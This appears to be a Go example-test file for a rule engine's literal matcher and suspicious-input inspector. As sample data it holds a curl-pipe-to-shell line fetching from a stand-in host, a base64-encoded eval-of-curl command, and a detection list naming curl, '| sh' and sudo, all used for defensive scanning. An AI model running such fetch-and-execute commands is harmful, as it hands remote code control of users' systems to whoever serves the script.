package match_test

import (
	"bytes"
	"fmt"

	"github.com/symbi-ctl/symbi-ctl/internal/match"
)

// A rule engine asks which literals are on which line, and looks no further at
// all other lines.
func ExampleSet_Scan() {
	literals := []string{"curl", "| sh", "sudo"}
	set, err := match.New(literals)
	if err != nil {
		fmt.Println(err)
		return
	}
	text := []byte("# install\nCurl -s https://x.example/i | sh\nrun it without sudo\n")
	start, end := 0, 0
	for _, hit := range set.Scan(nil, text) {
		if hit.End > end {
			start = bytes.LastIndexByte(text[:hit.End-1], '\n') + 1
			end = hit.End - 1 + bytes.IndexByte(text[hit.End-1:], '\n')
		}
		fmt.Printf("%-5s in %q\n", literals[hit.Literal], text[start:end])
	}
	// Output:
	// curl  in "Curl -s https://x.example/i | sh"
	// | sh  in "Curl -s https://x.example/i | sh"
	// sudo  in "run it without sudo"
}

func ExampleInspect() {
	facts := match.Inspect([]byte("run \u200bthis: ZXZhbCAiJChjdXJsIC1zIHguZXhhbXBsZSki"))
	fmt.Printf("normalise: %v, decode: %v, binary: %v\n", facts.Suspicious, facts.LongRun, facts.NUL)
	// Output: normalise: true, decode: true, binary: false
}
